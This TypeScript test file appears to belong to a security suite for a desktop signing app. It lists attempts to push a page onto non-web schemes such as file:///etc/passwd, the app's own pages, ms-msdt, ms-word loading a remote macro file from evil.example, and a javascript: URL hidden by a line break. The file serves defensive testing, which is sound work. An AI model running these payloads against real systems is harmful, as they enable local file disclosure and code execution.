/** Addresses outside the web: files, programs, the application's own pages, the browser's. */
import type { Area } from '../attack.ts'
import { frame, loads, refusedBy } from './scripts.ts'

export const schemes: Area = {
  title: 'Schemes other than the web’s',
  about:
    'An address may name a file, a program of the system, our own pages or something that the page has made itself. A document may only come from the signing service.',
  by: 'signing page',
  guard: ['ground'],
  sharesTurns: true,
  attacks: [
    { name: 'show a file of this computer', script: 'location = "file:///etc/passwd"', guard: ['browser'] },
    {
      name: 'show a file of another computer',
      script: 'location = "file://server.example/share/a"',
      guard: ['browser']
    },
    { name: 'show our own pages', script: 'location = "app://countersign/index.html"', guard: ['browser'] },
    {
      name: 'read our own pages',
      script: refusedBy('fetch("app://countersign/index.html")'),
      answers: 'refused',
      guard: ['browser']
    },
    {
      name: 'load a script of our own pages',
      script: loads('script', 'e.src = "app://countersign/page.js"'),
      answers: 'refused',
      guard: ['browser']
    },
    { name: 'run data as a page', script: 'location = "data:text/html,<h1>bank</h1>"', guard: ['browser'] },
    {
      name: 'run a blob as a page',
      script: 'location = URL.createObjectURL(new Blob(["<h1>bank</h1>"], { type: "text/html" }))',
      message: 'isn’t a web page',
      mayEndItself: true
    },
    {
      name: 'run a file of the page’s own file system',
      script: 'location = "filesystem:{here}/temporary/a.html"',
      guard: ['browser']
    },
    { name: 'show the browser’s own pages', script: 'location = "chrome://gpu"', guard: ['browser'] },
    { name: 'show the browser’s crash page', script: 'location = "chrome://crash"', guard: ['browser'] },
    {
      name: 'show the browser’s own files',
      script: 'location = "chrome-extension://abcdefghijklmnopabcdefghijklmnop/a.html"',
      mayEndItself: true,
      guard: ['browser']
    },
    { name: 'show the source', script: 'location = "view-source:{here}/attack"', guard: ['browser'] },
    {
      name: 'show the developer tools',
      script: 'location = "devtools://devtools/bundled/inspector.html"',
      guard: ['browser']
    },
    {
      name: 'show an empty page',
      script: 'location = "about:blank"',
      guard: ['browser'],
      contained: 'The page becomes empty; our frame and the way out stay.',
      mayEndItself: true
    },
    { name: 'start the mail program', script: 'location = "mailto:ana@example.com"', message: 'isn’t a web page' },
    { name: 'start the telephone', script: 'location = "tel:+431234567"', message: 'isn’t a web page' },
    {
      name: 'start a program of the system',
      script: 'location = "ms-msdt:/id%20PCWDiagnostic"',
      message: 'isn’t a web page'
    },
    {
      name: 'start an office program with a file of elsewhere',
      script: 'location = "ms-word:ofe|u|https://evil.example/a.docm"',
      message: 'isn’t a web page'
    },
    {
      name: 'start a search that shows files of elsewhere',
      ...frame('search-ms:query=x'),
      message: 'isn’t a web page'
    },
    {
      name: 'start a program by opening a window',
      script: 'window.open("ms-settings:privacy")',
      guard: ['windows'],
      message: 'isn’t a web page'
    },
    {
      name: 'read a file of this computer',
      script: refusedBy('fetch("file:///etc/passwd")'),
      answers: 'refused',
      guard: ['browser']
    },
    {
      name: 'load a picture of this computer',
      script: loads('img', 'e.src = "file:///usr/share/pixmaps/debian-logo.png"'),
      answers: 'refused',
      guard: ['browser']
    },
    { name: 'fetch by the old protocol', script: 'location = "ftp://{elsewhere}/"', message: 'isn’t a web page' },
    {
      name: 'hide a script behind a line break',
      script:
        'const a = document.createElement("a"); a.href = "java\\nscript:window.owned=1"; a.target = "_blank"; document.body.append(a); a.click()',
      guard: ['windows']
    }
  ]
}
